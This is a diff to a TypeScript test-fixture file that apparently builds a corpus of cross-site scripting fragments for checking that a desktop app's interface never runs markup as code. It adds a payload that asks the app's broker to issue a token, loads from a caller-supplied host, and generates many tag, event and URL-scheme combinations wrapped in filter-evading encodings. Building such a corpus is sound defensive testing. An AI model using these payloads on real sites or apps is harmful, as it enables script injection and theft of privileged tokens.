@@ -1,7 +1,11 @@
 /** Fragments of markup and script, each of which would do something if it were ever taken for more than text. */
 
-/** What a fragment does if it runs: it says so in the page's title and asks for something from outside. */
+/** What a fragment does if it runs: it leaves a mark. */
 const MARK = "window.__pwned=1";
+/** The same, and in the desktop app it asks the broker for a token in the operator's name. */
+const CALL =
+  MARK +
+  ";(window.__TAURI_INTERNALS__||{invoke(){}}).invoke(`console`,{call:{method:`issueToken`,params:{agent:`pwned`}}})";
 
 const handlers = [
   `<img src=x onerror="${MARK}">`,
@@ -77,3 +81,62 @@ export const FRAGMENTS: readonly string[] = [
   ...requests,
   ...breakouts,
 ];
+
+const tags =
+  "img svg body video audio iframe object embed input details marquee a form button select textarea style link " +
+  "meta base template math frameset dialog portal xss";
+const events =
+  "onerror onload onfocus onclick ontoggle onstart onmouseover onpointerenter onanimationstart onbeforetoggle " +
+  "onpageshow onscroll onloadstart oncanplay oncontentvisibilityautostatechange";
+
+/** Ways to write the same so that a filter, a decoder or a template might take it for something else. */
+const disguises: ((text: string) => string)[] = [
+  (text) => text,
+  (text) => text.replaceAll('"', "'"),
+  (text) => text.replaceAll('"', ""),
+  (text) => text.replaceAll(" ", "/"),
+  (text) => text.replaceAll(" ", "\n\t"),
+  (text) => text.replace(/[a-z]/g, (c, at: number) => (at % 2 === 0 ? c.toUpperCase() : c)),
+  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
+  (text) => text.replaceAll("<", "&#x3c;").replaceAll(">", "&#62"),
+  (text) => encodeURIComponent(text),
+  (text) => encodeURIComponent(encodeURIComponent(text)),
+  (text) => text.replaceAll("<", "\\u003c").replaceAll(">", "\\x3e"),
+  (text) => text.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
+  (text) => text.replaceAll("<", "<\u0000"),
+  (text) => `"'--></textarea></title></style></script></noscript></template>${text}`,
+  (text) => `<![CDATA[${text}]]><!--${text}-->`,
+  (text) => `<svg><foreignObject>${text}</foreignObject></svg>`,
+  (text) => `<template shadowrootmode=open>${text}</template>`,
+  (text) => `data:text/html;base64,${Buffer.from(text).toString("base64")}`,
+  (text) => `{@html ${JSON.stringify(text)}} {{${text}}} \${${text}} <%= ${text} %>`,
+  (text) => `[x](javascript:${encodeURIComponent(text)}) ![](${text})`,
+  (text) => `\u202e${text}\u2066\u001b[31m${text}\u001b]0;x\u0007`,
+];
+
+/** Every tag with every event in every disguise, and addresses that are scripts; each reports to `host` if it can. */
+export function corpus(host: string): string[] {
+  const fragments = tags
+    .split(" ")
+    .flatMap((tag) =>
+      events
+        .split(" ")
+        .map((event) => `<${tag} src="//${host}/x" href="//${host}/y" ${event}="${CALL}">`),
+    );
+  const schemes = [
+    "javascript:",
+    "JaVaScRiPt:",
+    " javascript:",
+    "java\tscript:",
+    "vbscript:",
+    "data:text/html,",
+  ];
+  const addresses = schemes.flatMap((scheme) => [
+    `${scheme}${CALL}`,
+    `<a href="${scheme}${CALL}">x</a>`,
+    `<svg><a xlink:href="${scheme}${CALL}"><text>x</text></a></svg>`,
+    `<form action="${scheme}${CALL}"><button>x</button></form>`,
+    `<iframe src="${scheme}${CALL}"></iframe>`,
+  ]);
+  return [...fragments, ...addresses].flatMap((one) => disguises.map((disguise) => disguise(one)));
+}
